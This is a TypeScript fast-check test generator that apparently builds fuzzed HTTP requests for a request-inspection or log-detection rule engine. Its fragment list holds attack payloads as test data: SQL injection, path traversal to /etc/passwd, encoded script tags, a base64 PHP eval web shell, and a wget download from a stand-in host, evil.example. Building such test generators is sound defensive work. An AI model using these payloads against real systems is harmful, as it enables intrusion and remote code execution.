import fc from 'fast-check';
import type { Request } from './entry.ts';

/** Texts that the rules of the tests look for, and their like. */
const FRAGMENTS = [
  ...['union select', 'UNION  SELECT', 'union/**/select', '/*', '*/', "' or 1=1", '../../', '/etc/passwd', '<script>'],
  ...[
    '<ſcript',
    'KELVIN',
    '\u212aelvin',
    'İn',
    '＜script＞',
    '&lt;script&gt;',
    '&#x3c;b',
    '\\x3cscript',
    '%c0%ae%c0%ae/',
  ],
  ...[
    '%u003cscript',
    'cmd=read',
    'a=b',
    'x',
    '=',
    '&',
    '?',
    '+',
    ' ',
    '  ',
    '/',
    '//',
    '/./',
    '%',
    '%2',
    '%25',
    '\0',
    '\n',
  ],
  ...[
    '\\',
    '"',
    'é',
    '\xff',
    'wget http://evil.example/a.sh',
    '.php',
    '.bak',
    'shell',
    'ZXZhbCgkX1BPU1RbMV0pOw==',
    '$_POST',
  ],
  ...[
    'sqlmap/1.8',
    'Mozilla/5.0 (X11; Linux x86_64)',
    'curl/8.0',
    'https://www.example.org/?q=a+b',
    ';',
    '|',
    '(',
    ')',
  ],
];

const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  encodeURIComponentLossless,
  (text) => encodeURIComponentLossless(encodeURIComponentLossless(text)),
  (text) => encodeURIComponentLossless(encodeURIComponentLossless(encodeURIComponentLossless(text))),
  (text) => text.replaceAll(' ', '+'),
  (text) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''),
  (text) => Buffer.from(text).toString('base64'),
  (text) => [...text].map((c) => `%u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join(''),
];

/** As `encodeURIComponent`, which refuses a lone surrogate. */
export function encodeURIComponentLossless(text: string): string {
  return encodeURIComponent(text.toWellFormed());
}

const piece = fc
  .tuple(fc.oneof(fc.constantFrom(...FRAGMENTS), fc.string({ maxLength: 4 })), fc.constantFrom(...ENCODINGS))
  .map(([text, encode]) => encode(text));
const text = fc.array(piece, { maxLength: 4 }).map((pieces) => pieces.join(''));
const target = fc
  .tuple(text, fc.option(fc.array(fc.tuple(text, fc.option(text)), { maxLength: 4 })))
  .map(([path, query]) => {
    if (query === null) return `/${path}`;
    return `/${path}?${query.map(([name, value]) => (value === null ? name : `${name}=${value}`)).join('&')}`;
  });

/** Requests that are made of attacks, of parts of them, and of what may confuse a decoder, encoded in all ways. */
export const arbitraryRequest: fc.Arbitrary<Request> = fc.record({
  target: fc.option(target, { nil: null }),
  method: fc.constantFrom('GET', 'POST', 'Post', 'TRACE', 'gEt'),
  protocol: fc.constantFrom('HTTP/1.1', null),
  status: fc.constantFrom(200, 404, 500, null),
  userAgent: fc.option(text, { nil: null }),
  referer: fc.option(
    text.map((path) => `https://www.example.org/${path}`),
    { nil: null },
  ),
  user: fc.option(text, { nil: null }),
  host: fc.option(fc.constantFrom('www.example.org', 'evil.example'), { nil: null }),
  extra: fc.option(
    text.map((value) => ({ 'cs-cookie': value })),
    { nil: null },
  ),
});
